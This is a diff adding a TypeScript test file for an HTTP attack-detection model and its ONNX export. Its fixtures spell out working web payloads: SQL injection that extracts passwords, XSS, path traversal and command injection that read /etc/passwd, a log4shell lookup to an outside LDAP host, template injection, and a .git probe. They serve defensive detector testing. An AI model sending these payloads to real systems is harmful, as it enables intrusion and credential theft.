@@ -1,0 +1,89 @@
+/** The bundled generic model, through onnxruntime, on the project's own examples. */
+import { beforeAll, describe, expect, test } from "bun:test";
+import { Detector } from "../../src/detect/detector.ts";
+import { rawHttpParser } from "../../src/parse/raw-http.ts";
+import { isParseError, type HttpRequest } from "../../src/core/http-request.ts";
+import { exportLinearOnnx, readLinearOnnx } from "../../src/detect/onnx/linear.ts";
+import { SparseLinearSession } from "../../src/detect/onnx/session.ts";
+import { logits, softmaxInPlace, trainSoftmax } from "../../src/detect/generic/softmax.ts";
+import { featurizeField } from "../../src/detect/featurize.ts";
+import { normalizeValue } from "../../src/detect/normalize.ts";
+import type { Field } from "../../src/detect/fields.ts";
+
+function req(raw: string): HttpRequest {
+  const r = rawHttpParser.parse(raw, { source: "test" });
+  if (isParseError(r)) throw new Error(r.reason);
+  return r;
+}
+const get = (target: string, headers = "") => req(`GET ${target} HTTP/1.1\nHost: shop.test\n${headers}`);
+
+let detector: Detector;
+beforeAll(async () => {
+  detector = await Detector.load();
+});
+
+describe("generic model", () => {
+  const attacks: [string, HttpRequest, string, string][] = [
+    ["sqli in a query value", get("/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"), "sqli", "query.id"],
+    ["xss in a query value", get("/search?q=%3Csvg%20onload%3Dalert(document.domain)%3E"), "xss", "query.q"],
+    ["traversal in the path", get("/download/..%2f..%2f..%2f..%2fetc%2fpasswd"), "traversal", "path"],
+    ["command injection", get("/ping?host=127.0.0.1%3Bcat%20/etc/passwd"), "cmdi", "query.host"],
+    ["log4shell in a header", get("/", "User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"), "log4shell", "header.user-agent"],
+    ["ssti", get("/hello?name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"), "ssti", "query.name"],
+    ["scanner probe", get("/.git/config"), "scanner", "path"],
+  ];
+  for (const [what, request, cls, field] of attacks) {
+    test(`flags ${what}, names the class and points at the field`, async () => {
+      const [v] = await detector.judge([request]);
+      expect(v!.isAnomaly).toBe(true);
+      expect(v!.attackType).toBe(cls);
+      expect(v!.reasons[0]).toMatchObject({ field, detector: "generic", name: cls });
+      expect(v!.reasons[0]!.evidence.length).toBeGreaterThan(2);
+      expect(v!.severity).not.toBe("none");
+    });
+  }
+
+  test("the evidence is the substring that carries the attack", async () => {
+    const [v] = await detector.judge([get("/search?q=blue+shoes+%27+OR+1%3D1--+&page=2")]);
+    expect(v!.reasons[0]!.evidence).toContain("or 1=1");
+  });
+
+  test("stays quiet on benign shapes that fool naive rules", async () => {
+    const benign = [
+      get("/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E+%D0%BF%D0%BE%D0%B8%D1%81%D0%BA&lang=ja"),
+      get("/api/v1/items?filter=%7B%22price%22%3A%7B%22min%22%3A10%7D%2C%22tags%22%3A%5B%22a%22%2C%22b%22%5D%7D"),
+      get("/auth/callback?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
+      get("/collect?v=2&tid=G-ABC123&cid=1234567890.1700000000&dl=https%3A%2F%2Fshop.test%2Fcart&dt=Cart%20%E2%80%93%20Shop&sr=1920x1080"),
+      get("/profile?name=O%27Brien&bio=rock+%27n%27+roll+fan"),
+      get("/static/js/app.3f9a2c.js?v=1.2.3"),
+    ];
+    const verdicts = await detector.judge(benign);
+    expect(verdicts.map((v) => v.isAnomaly)).toEqual(benign.map(() => false));
+  });
+
+  test("scores a batch in order", async () => {
+    const batch = [get("/a?x=1"), get("/b?x=%3Cscript%3Ealert(1)%3C/script%3E"), get("/c")];
+    const verdicts = await detector.judge(batch);
+    expect(verdicts.map((v) => v.isAnomaly)).toEqual([false, true, false]);
+  });
+});
+
+describe("ONNX export", () => {
+  test("a trained model gives the same probabilities in onnxruntime as in TypeScript", async () => {
+    const field = (text: string): Field => ({ location: "query", name: "v", raw: text, norm: normalizeValue(text) });
+    const texts = ["hello world", "1 or 1=1", "<script>", "shoes", "union select", "red"];
+    const X = texts.map((t) => featurizeField(field(t), { version: 1, buckets: 1 << 10, ngramMin: 1, ngramMax: 3 }));
+    const w = trainSoftmax(X, Uint8Array.from([0, 1, 2, 0, 1, 0]), new Float32Array(6).fill(1), 3, 1 << 10, { epochs: 20, learningRate: 0.5, l2: 0, seed: 1 });
+    const bytes = exportLinearOnnx(w, { "moat.test": "yes" });
+    const back = readLinearOnnx(bytes);
+    expect(back.metadata["moat.test"]).toBe("yes");
+    expect(Array.from(back.weights.W)).toEqual(Array.from(w.W));
+    const probs = await (await SparseLinearSession.create(bytes, 3)).run(X);
+    const z = new Float64Array(3);
+    X.forEach((x, i) => {
+      logits(w, x, z);
+      softmaxInPlace(z);
+      for (let c = 0; c < 3; c++) expect(probs[i * 3 + c]!).toBeCloseTo(z[c]!, 5);
+    });
+  });
+});
